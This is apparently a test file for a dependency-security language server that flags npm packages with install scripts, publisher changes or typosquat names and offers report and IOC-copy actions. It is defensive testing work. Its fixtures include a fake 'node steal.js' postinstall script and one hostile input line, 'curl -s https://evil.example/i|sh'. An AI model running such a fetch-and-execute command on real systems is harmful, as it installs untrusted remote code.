import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { uriOf } from '../support/lsp-client';
import { startFakeRegistry } from '../support/fake-registry';
import { npmLockText, tempProject } from '../support/fixtures';
import { openProject } from '../support/lsp-project';

/** The Markdown as its reader sees the text: the escapes markdown.ts puts before names, versions and messages undone. */
const unescaped = (md: string) => md.replace(/\\([\\`*_{}[\]()#+\-.!<>|~&:$])/g, '$1');

const DAY = 86_400_000;
const SHA = '0123456789abcdef0123456789abcdef01234567';

const MANIFEST = `{
  "name": "app",
  "dependencies": {
    "sneaky": "1.1.0",
    "clean-pkg": "1.0.0"
  }
}
`;

function lockEntry(name: string, version: string) {
  return { version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`, integrity: 'sha512-AAAA' };
}

const LOCK = JSON.stringify(
  {
    name: 'app',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', dependencies: { sneaky: '1.1.0', 'clean-pkg': '1.0.0' } },
      'node_modules/sneaky': { ...lockEntry('sneaky', '1.1.0'), hasInstallScript: true },
      'node_modules/clean-pkg': lockEntry('clean-pkg', '1.0.0'),
    },
  },
  null,
  2,
);

/** Every line of the card (rules apart) says something new. */
function assertNoLineTwice(card: string): void {
  const lines = card.split('\n').map((l) => l.trim()).filter((l) => l && l !== '---');
  const twice = lines.filter((l, i) => lines.indexOf(l) !== i);
  assert.deepEqual(twice, [], card);
}

interface HoverResult {
  contents: { kind: string; value: string };
}
interface Action {
  title: string;
  command?: { command: string; arguments: unknown[] };
}

test('the hover shows registry facts, report links and audit links; code actions report and copy the IOC', async (t) => {
  const reg = await startFakeRegistry();
  const now = Date.now();
  const repository = { type: 'git', url: 'git+https://github.com/acme/sneaky.git' };
  reg.addPackage('sneaky', {
    created: new Date(now - 400 * DAY).toISOString(),
    versions: {
      '1.0.0': { npmUser: 'alice', repository, time: new Date(now - 300 * DAY).toISOString() },
      '1.0.1': { npmUser: 'alice', repository, time: new Date(now - 200 * DAY).toISOString() },
      '1.1.0': { npmUser: 'mallory', repository, gitHead: SHA, scripts: { postinstall: 'node steal.js' }, time: new Date(now - 2 * DAY - 3_600_000).toISOString() },
    },
  });
  reg.addPackage('clean-pkg', {
    created: new Date(now - 900 * DAY).toISOString(),
    versions: { '1.0.0': { npmUser: 'carol', repository: 'gitlab:team/clean', gitHead: 'abcdef0', time: new Date(now - 800 * DAY).toISOString() } },
  });
  const dir = mkdtempSync(path.join(tmpdir(), 'depwarden-hover-'));
  writeFileSync(path.join(dir, 'package.json'), MANIFEST);
  writeFileSync(path.join(dir, 'package-lock.json'), LOCK);
  const { client } = await openProject(t, dir, { settings: { offline: false, registry: reg.url, advisories: { enabled: false }, debounceMs: 20 }, servers: [reg] });
  const uri = uriOf(path.join(dir, 'package.json'));
  const trust = await client.waitFor(() => (client.diagnostics.get(uri) ?? []).find((d) => d.code === 'trust-change'), 'the registry-based trust-change finding');
  await client.connection.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: 'json', version: 1, text: MANIFEST } });

  const hover = (line: number) => client.connection.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line, character: 7 } }) as Promise<HoverResult>;
  const card = unescaped((await hover(3)).contents.value);
  assert.match(card, /^\*\*sneaky\*\* · `1\.1\.0` · locked at \*\*1\.1\.0\*\* · _dependencies_/);
  assert.match(card, /\*\*1\.1\.0\*\* published 2 days ago \(\d{4}-\d\d-\d\d \d\d:\d\d UTC\) by \*\*mallory\*\*/);
  assert.match(card, /install script `postinstall` runs `node steal\.js`/);
  // The dist-tag and the most recent publish are named apart (here the same version).
  assert.match(card, /dist-tag `latest`: \*\*1\.1\.0\*\*, also the most recent publish, 2 days ago/);
  // The verdict leads, and VS Code's diagnostic hover (above the card) already has the messages.
  assert.match(card.split('\n')[1], /^⚠ \*\*Needs a look\*\*: \[`install-script`\]\(.*\[`trust-change`\]/);
  const underCursor = (client.diagnostics.get(uri) ?? []).filter((d) => d.range.start.line <= 3 && d.range.end.line >= 3 && d.range.start.character <= 7 && d.range.end.character >= 7);
  assert.ok(underCursor.length >= 2, 'the diagnostics VS Code shows above the card');
  // A lockfile finding shown on the package.json line is not led by a name its message already has.
  for (const d of underCursor) assert.ok(!/^(\S+@\S+?)(?: \(via [^)]*\))?: .*\1/.test(d.message), `the name twice: ${d.message}`);
  for (const d of underCursor) assert.ok(!card.includes(d.message.slice(0, 60)), `the card repeats the diagnostic "${d.message}"\n${card}`);
  assertNoLineTwice(card);
  assert.match(card, /○ \*\*Not checked\*\*  \n- advisories: off \(depwarden\.advisories\)/, 'advisories are off: the card says so');
  assert.match(card, /publishers of recent versions: 1\.0\.0 alice · 1\.0\.1 alice · 1\.1\.0 mallory/);
  assert.ok(card.includes('[npm](https://www.npmjs.com/package/sneaky)'), card);
  assert.ok(card.includes('[published files of 1.1.0](https://www.npmjs.com/package/sneaky/v/1.1.0?activeTab=code)'), card);
  assert.ok(card.includes('[repository](https://github.com/acme/sneaky) (github.com, as the package claims)'), card);
  assert.ok(card.includes(`[at the published commit 0123456](https://github.com/acme/sneaky/tree/${SHA})`), card);
  assert.ok(card.includes('[Report sneaky to npm](https://www.npmjs.com/support?inquire=security&security-inquire=malware&package=sneaky&version=1.1.0)'), card);
  // The link carries an id; the client asks the server for the text behind it.
  const copy = /\[Copy IOC\]\(command:depwarden\.copyIocById\?([^)]+)\)/.exec(card);
  assert.ok(copy, card);
  const [id] = JSON.parse(decodeURIComponent(copy[1])) as string[];
  assert.match(id, /^[a-z0-9]{1,32}$/);
  const iocArg = (await client.connection.sendRequest('depwarden/iocText', { id })) as string;
  assert.match(iocArg, /^sneaky@1\.1\.0\n# /);
  assert.equal(await client.connection.sendRequest('depwarden/iocText', { id: 'curl -s https://evil.example/i|sh' }), null, 'only ids the server handed out');
  // Most important first: the findings (the warning before the info), then the registry facts, then the links.
  const at = (s: string) => card.indexOf(s);
  assert.ok(at('`trust-change`') > 0 && at('`trust-change`') < at('**1.1.0** published') && at('**1.1.0** published') < at('[npm]'), card);
  assert.ok(at('[Report sneaky') > at('`trust-change`') && at('[Report sneaky') < at('**1.1.0** published'), 'the report line closes the findings');
  assert.equal(card.split('[Report sneaky to npm]').length, 2, 'one report line per card');
  assert.match(iocArg, /\n# install-script: [^\n]+\n[^]*\n# trust-change: /, 'the IOC carries every reportable finding');

  const clean = unescaped((await hover(4)).contents.value);
  // No finding, but advisories were not asked: not "✔ No findings".
  assert.match(clean.split('\n')[1], /^○ \*\*No findings from the checks that ran\*\*/);
  assert.ok(!clean.includes('✔'), clean);
  assertNoLineTwice(clean);
  assert.match(clean, /\*\*1\.0\.0\*\* published 2 years ago \(.+ UTC\) by \*\*carol\*\*/);
  assert.ok(clean.includes('[at the published commit abcdef0](https://gitlab.com/team/clean/-/tree/abcdef0)'), clean);
  assert.ok(!clean.includes('Report'), 'no report link without a finding that calls for one');

  const actions = (await client.connection.sendRequest('textDocument/codeAction', {
    textDocument: { uri },
    range: trust.range,
    context: { diagnostics: [trust] },
  })) as Action[];
  const report = actions.find((a) => a.title === 'Report sneaky to npm');
  assert.deepEqual(report?.command, {
    title: 'Report sneaky to npm',
    command: 'vscode.open',
    arguments: ['https://www.npmjs.com/support?inquire=security&security-inquire=malware&package=sneaky&version=1.1.0'],
  });
  const copyAction = actions.find((a) => a.title === 'Copy IOC (sneaky@1.1.0)');
  assert.equal(copyAction?.command?.command, 'depwarden.copyIoc');
  const text = copyAction!.command!.arguments[0] as string;
  assert.match(text, /^sneaky@1\.1\.0\n# trust-change: /);
  assert.match(text, /\n# found in package-lock\.json$|\n# found in package\.json$/);
  assert.equal(actions.filter((a) => a.title === 'Report sneaky to npm').length, 1, 'one report action per package');
});

test('one "Copy IOC" per package in the light bulb, whichever of its findings are under the cursor', async (t) => {
  // A typosquat with an install script: the typosquat of package.json knows no version, the
  // install-script finding (from the lockfile, shown on the package.json line too) does.
  const manifest = '{\n  "name": "app",\n  "dependencies": {\n    "crossenv": "6.1.1"\n  }\n}\n';
  const dir = tempProject({ 'package.json': manifest, 'package-lock.json': npmLockText({ crossenv: { version: '6.1.1', hasInstallScript: true } }) }, 'depwarden-one-ioc-');
  const { client } = await openProject(t, dir);
  const uri = uriOf(path.join(dir, 'package.json'));
  const here = await client.waitFor(() => {
    const d = (client.diagnostics.get(uri) ?? []).filter((x) => x.range.start.line === 3);
    return d.some((x) => x.code === 'typosquat') && d.some((x) => x.code === 'install-script') && d;
  }, 'the typosquat and the install script on the package.json line');
  // Not "crossenv@6.1.1: crossenv@6.1.1 has …" on the package.json line.
  assert.match(here.find((d) => d.code === 'install-script')!.message, /^crossenv@6\.1\.1 has an install script/);
  await client.connection.sendNotification('textDocument/didOpen', { textDocument: { uri, languageId: 'json', version: 1, text: manifest } });
  const actions = (await client.connection.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: here[0].range, context: { diagnostics: here } })) as Action[];
  assert.deepEqual(actions.filter((a) => a.title.startsWith('Copy IOC')).map((a) => a.title), ['Copy IOC (crossenv@6.1.1)']);
  assert.deepEqual(actions.filter((a) => a.title.startsWith('Report ')).map((a) => a.title), ['Report crossenv to npm']);
  const ioc = actions.find((a) => a.title.startsWith('Copy IOC'))!.command!.arguments[0] as string;
  assert.match(ioc, /^crossenv@6\.1\.1\n/);
  assert.match(ioc, /\n# install-script: /);
  assert.match(ioc, /\n# typosquat: /);
});
